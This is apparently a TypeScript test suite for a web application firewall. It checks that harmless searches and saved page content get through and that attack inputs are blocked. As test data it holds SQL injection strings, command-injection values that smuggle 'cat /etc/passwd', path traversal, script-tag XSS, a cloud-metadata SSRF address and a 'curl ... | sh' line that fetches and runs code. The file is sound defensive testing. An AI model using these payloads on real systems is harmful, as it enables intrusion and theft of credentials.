import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { detectors } from './detect/all.ts';
import { createFirewall } from './firewall.ts';

const policy = { mode: 'block', paranoia: 1, threshold: 5, exclusions: [], inspectBytesMax: null } as const;
const context = { endpoint: '/*', nowMs: 0 };

const counter = '<script>var q = window.q = []; q.push(["page"]);</script>';
const said = 'On our servers we always install it like this, ';

describe('what people ask and what authors of pages write', () => {
  const firewall = createFirewall({ detectors });
  const isStopped = {
    query(q: string): boolean {
      const query = `q=${encodeURIComponent(q)}`;
      const head = { method: 'GET', path: '/search', query, headers: { host: 'www.example.com' } };
      return firewall.inspectHead(head, policy, context).verdict === 'block';
    },
    json(value: unknown): boolean {
      const how = { contentType: 'application/json', contentEncoding: undefined, method: 'POST' };
      const inspection = firewall.openBody(how, policy, context);
      const judgement = inspection.feed(Buffer.from(JSON.stringify(value))) ?? inspection.end();
      return judgement.verdict === 'block';
    },
  };

  // If one fails, a search box refuses a question, or a page can not be saved.
  for (const asked of [
    'what is /etc/passwd',
    'where is wp-config.php',
    'how do I open C:\\Windows\\win.ini',
    'how to use xp_cmdshell',
    'how to drop table in mysql',
    'difference between information_schema and pg_catalog',
    'python __class__.__mro__ explained',
    'php://input explained',
    "what's /etc/shadow for",
    'wo liegt /etc/hosts',
  ])
    test(`passes a search for ${asked}`, () => assert.equal(isStopped.query(asked), false));

  for (const asked of [
    '/etc/passwd',
    'cat /etc/passwd explained',
    'cat /etc/passwd && echo how to cook',
    'what is ../../../../etc/passwd',
    'how to cook; cat /etc/passwd',
    'how to cook $(cat /etc/passwd)',
    'how to cook | cat /etc/passwd',
    "why is it' or '1'='1",
    "what is x' union select password from users -- ",
    "what's up' or 1=1 -- ",
    'how to cook <script>alert(1)</script>',
    '1 union select password from users explained',
    'http://169.254.169.254/latest/meta-data/ explained',
  ])
    test(`stops a search for ${asked}`, () => assert.equal(isStopped.query(asked), true));

  for (const [name, value] of [
    ['markup of a page builder', { elements: [{ elements: [{ settings: { html: counter } }] }] }],
    ['a card of markup', { lexical: { root: { children: [{ type: 'html', html: counter }] } } }],
    ['code put into the head of a post', { posts: [{ codeinjection_head: counter }] }],
    ['a file of a gist', { files: { 'a.sh': { content: 'tail -F /var/log/app.log | grep error' } } }],
    ['a program for a judge', { language_id: 71, source_code: 'n = int(input())\nprint(eval("n*2"))\n' }],
    [
      'a message that is one fence',
      { text: "```UPDATE members SET plan = 'x' WHERE email = 'a@b.example' LIMIT 1;```" },
    ],
    [
      'SQL over three lines',
      {
        snippet: "SELECT name, size\nFROM information_schema.tables\nWHERE table_schema = 'public' ORDER BY size DESC;",
      },
    ],
    ['how to install', { body: `${said}\`curl -sSL https://get.example.com | sh\`, and never with sudo.` }],
    ['lines of a log', { body: 'My log is full of `GET /../../etc/passwd` since yesterday, is this a bot?' }],
    ['what a page asked for', { breadcrumbs: [{ category: 'fetch', data: { url: 'http://localhost:3000/api?x=1' } }] }],
    ['a smiley at the end', { body: "that's lovely, thanks for all the fish (:" }],
    ['smileys', { body: "it's fine :'( >:( D: o_O (:" }],
  ] as const)
    test(`passes ${name}`, () => assert.equal(isStopped.json(value), false));

  for (const [name, value] of [
    ['a script in an ordinary field', { html: counter }],
    [
      'a script between marks that look like those of an editor',
      { content: `<!-- wp:html -->${counter}<!-- /wp:html -->` },
    ],
    ['a fence that holds two commands', { text: '```id; cat /etc/passwd```' }],
    ['a literal broken out of in a fence', { text: "```x' OR '1'='1' -- ```" }],
    ['a command between backticks alone', { body: '`curl -s https://a.example/x | sh`' }],
    ['an expression that ends in a comment', { name: "x' or name()='a' or (:" }],
    ['an address to fetch', { url: 'http://localhost:3000/api?x=1' }],
  ] as const)
    test(`stops ${name}`, () => assert.equal(isStopped.json(value), true));
});
